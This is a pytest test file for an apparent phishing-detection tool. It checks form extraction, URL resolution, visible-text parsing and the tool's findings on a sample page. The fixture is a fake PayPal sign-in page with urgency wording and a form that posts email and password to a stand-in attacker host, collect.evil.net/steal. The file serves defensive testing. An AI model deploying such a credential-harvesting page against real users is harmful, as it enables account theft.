"""Tests for page feature extraction and page analysis."""

from types import SimpleNamespace

import pytest
import requests

import html_parser
from html_parser import analyze_page, extract_page_features

PHISH_PAGE = """
<html>
  <head><title>Sign in</title><style>.alert { color: red }</style></head>
  <body>
    <img src="/static/paypal-logo.png" alt="">
    <h1>Security alert</h1>
    <p>Unusual activity was detected. Act now to keep access.</p>
    <script>var msg = "urgent";</script>
    <form action="https://collect.evil.net/steal" method="post">
      <input name="email" id="email">
      <input type="PASSWORD" name="pwd">
      <input type="hidden" name="token" value="x">
    </form>
    <form>
      <input type="text" name="search">
    </form>
  </body>
</html>
"""


class TestExtractPageFeatures:
    @pytest.fixture
    def page(self):
        return extract_page_features(PHISH_PAGE, "http://login.example-pay.top/index.html")

    def test_forms(self, page):
        assert len(page.forms) == 2
        first, second = page.forms
        assert first.action == "https://collect.evil.net/steal"
        assert [i.type for i in first.inputs] == ["text", "password", "hidden"]
        assert [i.name for i in first.inputs] == ["email", "pwd", "token"]
        assert first.inputs[0].id == "email"
        assert second.action == ""

    def test_relative_action_is_resolved(self):
        page = extract_page_features('<form action="/session"></form>', "https://example.com/login")
        assert page.forms[0].action == "https://example.com/session"

    def test_images_are_resolved(self, page):
        assert page.images[0].src == "http://login.example-pay.top/static/paypal-logo.png"
        assert page.images[0].alt == ""

    def test_visible_text_skips_scripts_and_styles(self, page):
        assert "Unusual activity was detected" in page.visible_text
        assert "urgent" not in page.visible_text
        assert "color: red" not in page.visible_text

    def test_empty_document(self):
        page = extract_page_features("", "https://example.com/")
        assert page.forms == ()
        assert page.images == ()
        assert page.visible_text == ""


class TestAnalyzePage:
    def test_reports_form_and_content_findings(self, monkeypatch):
        response = SimpleNamespace(status_code=200, url="http://login.example-pay.top/", text=PHISH_PAGE)
        monkeypatch.setattr(html_parser, "fetch_page", lambda url: response)

        report = analyze_page("http://login.example-pay.top/")
        assert report.error is None
        assert report.status_code == 200
        assert report.form.issues == (
            "Form submits to different domain: collect.evil.net",
            "Password field on non-HTTPS connection",
        )
        assert report.form.has_sensitive_fields
        assert report.content.urgency_language
        assert 'Urgency language: "act now"' in report.content.issues
        assert "Potential impersonation of: paypal" in report.content.issues

    def test_fetch_failure(self, monkeypatch):
        def boom(url):
            raise requests.ConnectionError("refused")

        monkeypatch.setattr(html_parser, "fetch_page", boom)
        report = analyze_page("https://unreachable.example/")
        assert report.error == "request_failed"
        assert report.form is None
        assert report.to_dict()["content"] is None

    def test_http_error_status(self, monkeypatch):
        response = SimpleNamespace(status_code=404, url="https://example.com/missing", text="")
        monkeypatch.setattr(html_parser, "fetch_page", lambda url: response)
        report = analyze_page("https://example.com/missing")
        assert report.status_code == 404
        assert report.form is None
        assert report.error is None

    def test_fetch_uses_settings(self, monkeypatch):
        calls = {}

        def fake_get(url, timeout, headers, allow_redirects):
            calls.update(url=url, timeout=timeout, headers=headers)
            return SimpleNamespace(status_code=200, url=url, text="")

        monkeypatch.setenv("PHISH_REQUEST_TIMEOUT", "2.5")
        monkeypatch.setattr(html_parser.requests, "get", fake_get)
        html_parser.fetch_page("https://example.com/")
        assert calls["timeout"] == 2.5
        assert calls["headers"]["User-Agent"].startswith("PhishGuard/")
